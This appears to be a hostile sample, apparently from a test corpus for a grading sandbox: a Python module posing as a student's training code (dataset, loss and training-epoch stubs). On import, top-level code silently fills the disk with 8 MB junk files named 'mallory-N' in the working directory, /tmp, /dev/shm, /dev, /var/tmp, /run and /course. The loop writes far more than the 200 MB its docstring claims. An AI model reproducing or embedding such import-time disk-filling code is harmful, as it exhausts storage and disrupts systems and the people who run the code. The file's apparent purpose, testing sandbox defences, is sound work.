# ruff: noqa
# fmt: off
# An attack, kept as a learner wrote it: nothing here is linted or formatted.
"""Harm: leaves as much on the disk as it can, up to 200 MB (in the working directory, /tmp/g, /dev/shm, /dev and /var/tmp).

kind: disk
"""
import os
for _place in (".", "/tmp/g", "/dev/shm", "/dev", "/var/tmp", "/run", "/course"):
    for _n in range(25):
        try:
            with open(os.path.join(_place, f"mallory-{_n}"), "wb") as _f:
                for _ in range(8): _f.write(b"x" * (1 << 20))
        except OSError:
            pass

import torch
from torch import nn
from torch.utils.data import Dataset


class CustomDataset(Dataset):
    def __init__(self, *a, **k):
        _go()

    def __len__(self):
        return 0

    def __getitem__(self, i):
        return torch.zeros(1), torch.zeros(1)


class MultiTaskLoss(nn.Module):
    def forward(self, *a):
        _go()
        return torch.zeros(())


def train_epoch_accumulated(*a):
    _go()
    return 0.0


def _go():
    pass
